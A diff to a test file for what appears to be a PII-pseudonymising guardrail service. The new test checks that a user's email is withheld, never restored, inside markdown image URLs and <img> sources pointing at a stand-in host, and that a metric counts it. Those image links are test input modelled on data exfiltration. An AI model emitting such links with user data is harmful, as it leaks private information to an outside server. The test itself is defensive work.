@@ -166,6 +166,35 @@ describe('the service', () => {
     expect(document).to.match(/"streaming_transform_mode":\{"description":"Accepted, and changes nothing\./);
   });
 
+  it('restores nothing in the address of an image, in a stream neither, and counts it', async () => {
+    const who = caller('team-1');
+    const sent =
+      bodyOf(await harness.guard({ ...who, input_type: 'request', texts: [PLANTED.email] })).texts[0] ?? 'none';
+    const written = (value: string): string =>
+      `For ${value}: ![x](https://e.example/?q=${sent} "to ${value}") <img alt="${value}" src="//e.example/${sent}">, ${value}`;
+    const answer = written(sent);
+    const final = written(PLANTED.email);
+    let released = '';
+    for (let length = 1; length <= answer.length; length += 1) {
+      const texts = [answer.slice(0, length)];
+      const step = bodyOf(await harness.guard({ ...who, input_type: 'response', texts }));
+      const text = step.texts[0] ?? '';
+      const shown = text.slice(0, text.length - (step.stream_holdback_chars[0] ?? 0));
+      expect(shown.startsWith(released), `${shown} after ${released}`).to.equal(true);
+      expect(final.startsWith(shown), shown).to.equal(true);
+      released = shown;
+    }
+    expect(released).to.equal(final);
+    // A tool is given what it asks for: its arguments are not shown.
+    const toolCall = {
+      function: { name: 'show', arguments: JSON.stringify({ text: `![x](https://e.example/?q=${sent})` }) },
+    };
+    const back = bodyOf(await harness.guard({ ...who, input_type: 'response', texts: [], tool_calls: [toolCall] }));
+    expect(back.tool_calls?.[0]?.function.arguments).to.include(`q=${PLANTED.email})`);
+    const metrics = String((await harness.call('GET', '/metrics')).body);
+    expect(metrics).to.match(/guardrail_pseudonyms_total\{outcome="withheld"\} [1-9]/);
+  });
+
   it('keeps teams, and tenants, apart for the same end user', async () => {
     const text = `Mail ${PLANTED.email}`;
     const other = 'key-of-another';
@@ -449,6 +478,7 @@ describe('the service', () => {
       'guardrail_entities_total{type="EMAIL_ADDRESS",detector="builtin"}',
       'guardrail_entities_total{type="IBAN_CODE",detector="builtin"}',
       'guardrail_pseudonyms_total{outcome="restored"}',
+      'guardrail_pseudonyms_total{outcome="withheld"}',
       'guardrail_pseudonyms_total{outcome="unknown"}',
       'guardrail_store_operation_duration_seconds_count{operation="put",outcome="ok"}',
       'guardrail_detection_duration_seconds_count{outcome="ok"}',
